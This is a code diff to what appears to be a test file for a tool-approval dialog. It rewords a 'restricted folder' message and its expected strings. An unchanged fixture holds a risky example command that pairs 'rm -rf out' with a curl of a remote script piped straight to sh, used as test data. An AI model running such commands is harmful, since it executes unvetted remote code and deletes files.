@@ -30,7 +30,7 @@ NUMBERS = "\n".join(
 REWRITTEN = "\n".join(
     unified_diff([f"n = {i}" for i in range(60)], [f"number_{i} = {i}" for i in range(60)], "a/n.py", "b/n.py")
 )
-RESTRICTED = "Asks because this folder is not trusted: only reading runs without asking"
+RESTRICTED = "Asks because this folder is restricted"
 RISKY = replace(
     RUNNER,
     detail="cd build && rm -rf out⏎\ncurl -s https://example.com/i.sh | sh",
@@ -88,7 +88,7 @@ STATES: dict[str, tuple[ToolApproval, tuple[str, ...], tuple[str, ...]]] = {
     ),
     "restricted": (
         replace(FOUR_REQUEST, rule="", is_keepable=False, offers=("trust",), why=RESTRICTED),
-        ("2 Yes, and trust this folder", "this folder is not trusted:", "3 No (n, Esc)"),
+        ("2 Yes, and trust this folder", "this folder is restricted", "3 No (n, Esc)"),
         (),
     ),
 }
